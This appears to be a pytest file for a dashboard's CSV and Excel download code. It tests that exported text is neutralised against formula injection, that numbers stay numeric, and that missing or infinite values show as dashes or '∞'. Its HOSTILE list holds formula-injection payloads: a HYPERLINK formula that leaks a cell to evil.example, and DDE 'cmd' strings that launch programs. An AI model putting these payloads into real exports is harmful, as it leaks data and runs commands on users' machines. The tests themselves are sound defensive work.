"""CSV and XLSX downloads: extract text never becomes a live formula, numbers stay numbers, "—" for missing.

Each test is named after the failure it prevents (issue 9, item 7)."""
from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard import downloads
from analysis.present import present

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def hostile_frame() -> pd.DataFrame:
    """What a loaded file list might hold: extract file names and site names typed by a hostile sender."""
    n = len(HOSTILE)
    return pd.DataFrame({"file_name": HOSTILE, "site_code": ["=1+1"] + ["乌拉山镇"] * (n - 1),
                         "rows_loaded": [-3, *range(n - 1)], "load": [None, -1.5, *[2.25] * (n - 2)]})


def csv_rows(frame: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(downloads.to_csv(frame).decode("utf-8-sig"))))


def sheet_rows(frame: pd.DataFrame) -> list[list]:
    book = load_workbook(io.BytesIO(downloads.to_xlsx(frame)))
    return [[(c.value, c.data_type) for c in row] for row in book.active.iter_rows()]


def test_csv_download_does_not_carry_a_live_formula_from_extract_text_or_file_names():
    rows = csv_rows(present(hostile_frame(), "zh"))
    for line, bad in zip(rows[1:], HOSTILE):
        assert line[0] == "'" + bad                      # shown as typed, behind a quote: never run
        assert line[1] in ("'=1+1", "乌拉山镇")


def test_xlsx_download_writes_text_as_strings_never_as_formulas():
    frame = hostile_frame()
    rows = sheet_rows(frame)
    for line, bad in zip(rows[1:], HOSTILE):
        assert line[0] == ("'" + bad, "s")
    assert rows[1][1] == ("'=1+1", "s")
    sheet_xml = zipfile.ZipFile(io.BytesIO(downloads.to_xlsx(frame))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_a_hostile_column_header_is_not_a_formula_either():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"]})
    assert csv_rows(frame)[0] == ["'=cmd|' /C calc'!A0"]
    assert sheet_rows(frame)[0] == [("'=cmd|' /C calc'!A0", "s")]


def test_negative_numbers_are_not_turned_into_text():
    rows = sheet_rows(hostile_frame())
    assert rows[1][2] == (-3, "n") and rows[2][3] == (-1.5, "n")
    line = csv_rows(hostile_frame())[1]
    assert line[2] == "-3"


@pytest.mark.parametrize("text", ["-10.0%", "+3", "-1,234.5"])
def test_a_formatted_change_like_minus_ten_percent_keeps_its_sign_without_a_quote(text):
    assert csv_rows(pd.DataFrame({"change": [text]}))[1] == [text]


def test_a_missing_value_is_a_dash_in_every_download_not_empty_or_nan():
    frame = pd.DataFrame({"site": ["A", None], "load": [1.5, float("nan")], "n": pd.array([1, None], "Int64"),
                          "day": pd.to_datetime(["2024-03-05", None])})
    assert csv_rows(frame)[2] == ["—"] * 4
    assert [v for v, _ in sheet_rows(frame)[2]] == ["—"] * 4



def test_an_infinite_number_is_written_as_the_sign_a_spreadsheet_can_hold():
    """Users per worker with users but no worker, an outflow rise from none: "∞", not "inf" (Excel holds no
    infinite number); the finite numbers of the column stay numbers."""
    frame = pd.DataFrame({"users_per_case_worker": [12.5, float("inf")], "change_pct": [-float("inf"), 3.0]})
    assert csv_rows(frame)[1:] == [["12.5", "-∞"], ["∞", "3.0"]]
    assert [[v for v, _ in row] for row in sheet_rows(frame)[1:]] == [[12.5, "-∞"], ["∞", 3.0]]


def test_a_figure_written_for_the_reader_is_never_inf():
    from analysis import fmt

    assert (fmt.number(float("inf"), 1), fmt.percent(float("inf")), fmt.number(1234.5, 1)) == ("∞", "∞", "1,234.5")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_text_column_missing_everywhere_is_dashes_on_the_page_not_nan(lang):
    """A column of text with no value in any row (a target whose checks have no evidence yet) reads "—" in each
    row, as a column with some values does; it is not taken for a column of numbers."""
    shown = present(pd.DataFrame({"evidence": [None, None], "evidence_some": ["2024-12-31: 1", None]}), lang)
    assert shown.iloc[:, 0].tolist() == ["—", "—"]
    assert shown.iloc[:, 1].tolist() == ["2024-12-31: 1", "—"]

def test_downloads_keep_numbers_and_chinese_readable_by_excel():
    frame = pd.DataFrame({"苏木镇": ["乌拉山镇", "先锋镇"], "案事件数": [3, 1], "负荷": [1.25, -0.5]})
    assert pd.read_excel(io.BytesIO(downloads.to_xlsx(frame))).equals(frame)
    assert pd.read_csv(io.BytesIO(downloads.to_csv(frame)), encoding="utf-8-sig").equals(frame)
